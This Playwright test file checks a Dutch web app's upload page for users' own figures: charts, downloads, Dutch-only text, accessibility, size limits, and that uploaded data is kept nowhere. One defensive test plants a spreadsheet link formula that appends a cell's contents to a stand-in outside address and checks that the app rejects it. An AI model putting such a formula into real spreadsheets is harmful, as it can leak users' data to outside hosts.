"""A reader's own file in a real browser: shown, refused with row and column, and nowhere kept."""

import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.test_accessibility import ENGLISH, stretch, violations
from toekomstscenario.pipeline.own_figures import TemplateRow, template_xlsx

pytestmark = pytest.mark.browser
ADDRESS = "/eigen-cijfers"
OWNER = "Gemeente Voorbeeldstad"
TITLE = "Gezinnen met een vaste werker"
ROWS = (
    TemplateRow(TITLE, "GM0363", "2021", 110.0, "aantal gezinnen", "definitief"),
    TemplateRow(TITLE, "GM0363", "2022", 120.0, "aantal gezinnen", "definitief"),
    TemplateRow(TITLE, "GM0363", "2023", 135.0, "aantal gezinnen", "voorlopig", "Eén wijk telt niet mee"),
)
HEAD = "indicator;gebied;periode;waarde;eenheid;status;opmerking"
GOOD = ("cijfers.xlsx", template_xlsx(None, ROWS))
BAD = ("fout.csv", f"{HEAD}\nZaken;GM9999;2023;12;aantal zaken;;\nZaken;GM0363;ooit;12;aantal zaken;;\n".encode())
Visit = Callable[[str], Page]
Still = Callable[[Page], None]


def put(page: Page, file: tuple[str, bytes], owner: str = OWNER) -> None:
    """Say whose the figures are and choose a file, as a reader does."""
    if owner:
        page.get_by_label("Van wie zijn de cijfers?").fill(owner)
        page.keyboard.press("Tab")
    name, data = file
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Kies een bestand").click()
    chooser.value.set_files({"name": name, "mimeType": "application/octet-stream", "buffer": data})


def english_on(page: Page) -> set[str]:
    """English names and texts inside the box for the file."""
    found = page.locator(".st-key-eigen-bestand").evaluate(
        "box => [...box.querySelectorAll('*')].filter(one =>"
        " one.checkVisibility() && !one.closest('[data-testid=stIconMaterial]')).flatMap(one =>"
        " [one.getAttribute('aria-label'), one.getAttribute('title'), ...[...one.childNodes]"
        ".filter(node => node.nodeType === 3).map(node => node.data)])"
    )
    return {name for name in found if name and ENGLISH.search(name)}


def test_good_file_gives_a_figure_to_take_along(visit: Visit, wait_until_still: Still) -> None:
    page = visit(ADDRESS)
    put(page, GOOD)
    card = page.locator('[class*="st-key-kaart-ontwikkeling"]')
    expect(card.locator("h2")).to_have_text(f"{TITLE} (eigen cijfers van {OWNER}), Amsterdam, 2021 t/m 2023")
    wait_until_still(page)
    expect(page.get_by_text("3 cijfers, van 1 reeks en 1 gebied")).to_be_visible()
    assert "Opmerking van de eigenaar: Eén wijk telt niet mee." in card.inner_text()
    assert page.url.endswith(ADDRESS), "nothing of a file goes into the address"
    page.get_by_role("button", name="Download", exact=True).click()
    for button, start in (("Afbeelding (.png)", b"\x89PNG"), ("PDF", b"%PDF"), ("Excel-bestand", b"PK")):
        with page.expect_download() as started:
            page.get_by_role("button", name=button).click()
        assert Path(started.value.path()).read_bytes().startswith(start)


def test_template_can_be_filled_in_and_read(visit: Visit) -> None:
    page = visit(ADDRESS)
    with page.expect_download() as started:
        page.get_by_role("button", name="Download de invulsjabloon (Excel)").click()
    assert started.value.suggested_filename == "invulsjabloon-eigen-cijfers.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(Path(started.value.path()).read_bytes()))
    assert book.sheetnames == ["cijfers", "uitleg", "indicatoren", "gebieden"]
    for row in ROWS:
        book["cijfers"].append(row.cells)
    filled = io.BytesIO()
    book.save(filled)
    put(page, ("ingevuld.xlsx", filled.getvalue()))
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible()


def formula() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(GOOD[1]))
    book["cijfers"]["D2"] = '=HYPERLINK("http://voorbeeld.nl/"&A1)'
    memory = io.BytesIO()
    book.save(memory)
    return memory.getvalue()


@pytest.mark.parametrize(
    ("file", "faults"),
    [
        (BAD, [("Rij 2", "gebied", "'GM9999' bestaat niet"), ("Rij 3", "periode", "'ooit' is niet te lezen")]),
        (("formule.xlsx", formula()), [("Rij 2", "D", "formule")]),
    ],
    ids=["region and period", "formula"],
)
def test_faulty_file_is_told_by_row_and_column(
    file: tuple[str, bytes], faults: list[tuple[str, str, str]], visit: Visit
) -> None:
    page = visit(ADDRESS)
    put(page, file)
    for row, column, words in faults:
        line = page.get_by_role("row").filter(has_text=words)
        expect(line.locator("th")).to_have_text(row)
        expect(line.locator("td").first).to_contain_text(column)
    expect(page.get_by_text("Er is niets bewaard.")).to_be_visible()
    expect(page.get_by_test_id("stVegaLiteChart")).to_have_count(0)


def test_file_that_is_too_large_is_told_in_dutch_and_not_sent(visit: Visit, tmp_path: Path) -> None:
    page = visit(ADDRESS)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if "upload_file" in request.url else None)
    file = tmp_path / "groot.csv"
    file.write_bytes(b"x" * (21 * 2**20))
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Kies een bestand").click()
    chooser.value.set_files(file)
    expect(page.get_by_role("alert")).to_have_text(re.compile("groter dan 20 MB. Verdeel het in kleinere bestanden"))
    expect(page.get_by_role("alert")).to_be_visible()
    assert page.get_by_role("alert").evaluate("one => one.getBoundingClientRect().width") > 100
    assert sent == []
    assert english_on(page) == set()


def test_empty_box_for_the_file_is_dutch(visit: Visit) -> None:
    page = visit(ADDRESS)
    page.get_by_label("Van wie zijn de cijfers?").fill("Half ingevuld")
    expect(page.get_by_text("Druk op Enter")).to_be_visible()
    assert english_on(page) == set()


@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.matrix)])
@pytest.mark.parametrize("file", [GOOD, BAD], ids=["good", "faulty"])
def test_full_box_is_dutch_axe_finds_nothing_and_nothing_scrolls_sideways(
    file: tuple[str, bytes], scheme: Any, page: Page, visit: Visit, wait_until_still: Still
) -> None:
    page.emulate_media(color_scheme=scheme)
    visit(ADDRESS)
    put(page, file)
    expect(page.locator(".tk-fouten, [data-testid=stVegaLiteChart]").first).to_be_visible()
    expect(page.get_by_role("button", name=f"Haal weg: {file[0]}")).to_be_visible()
    wait_until_still(page)
    assert english_on(page) == set()
    for width in (1280, 390, 320):
        stretch(page, width)
        assert violations(page) == [], width
        assert page.locator(".stMain").evaluate("main => main.scrollWidth - main.clientWidth") <= 0, width


def test_file_that_is_taken_away_takes_its_figure_along(visit: Visit) -> None:
    page = visit(ADDRESS)
    put(page, GOOD)
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible()
    page.get_by_role("button", name=f"Haal weg: {GOOD[0]}").click()
    expect(page.get_by_test_id("stVegaLiteChart")).to_have_count(0)
    expect(page.get_by_role("button", name="Kies een bestand")).to_be_visible()


@pytest.fixture
def server_that_cannot_write(request: pytest.FixtureRequest, chromium: str) -> Any:
    """A server for which every file of more than a megabyte is a full disk."""
    resource = pytest.importorskip("resource")
    usual = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, usual[1]))
    try:
        return request.getfixturevalue("fresh_server")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, usual)


def test_large_file_is_nowhere_kept(
    server_that_cannot_write: Any, page: Page, browser: Browser, wait_until_still: Still, tmp_path: Path
) -> None:
    """Neither on the disk of the server, nor in its log, nor for another reader."""
    note = "Een opmerking die het bestand groter maakt, en die nergens mag blijven staan. " * 3
    lines = [
        f"{TITLE} {at};GM0363;{year};{at + year};aantal zaken;;{note}"
        for at in range(400)
        for year in range(2010, 2024)
    ]
    data = "\n".join([HEAD, *lines]).encode()
    assert len(data) > 1_300_000, "more than the disk takes"
    page.goto(server_that_cannot_write.url + ADDRESS)
    wait_until_still(page)
    put(page, ("geheim-bestand.csv", data), "Proeftuin Verborgen")
    expect(page.get_by_text("5.600 cijfers, van 400 reeksen en 1 gebied")).to_be_visible(timeout=30_000)
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible()
    page.get_by_role("button", name="Download", exact=True).click()
    for button in ("Afbeelding (.png)", "PDF", "Word-document"):
        with page.expect_download() as started:
            page.get_by_role("button", name=button).click()
        assert started.value.failure() is None
    other = browser.new_page()
    other.goto(server_that_cannot_write.url + ADDRESS)
    wait_until_still(other)
    words = ("Proeftuin Verborgen", TITLE, "geheim", "nergens mag blijven")
    assert not [word for word in words if word in other.content()]
    other.close()
    log = (tmp_path / "server.log").read_text(errors="replace")
    assert not [word for word in words if word in log]
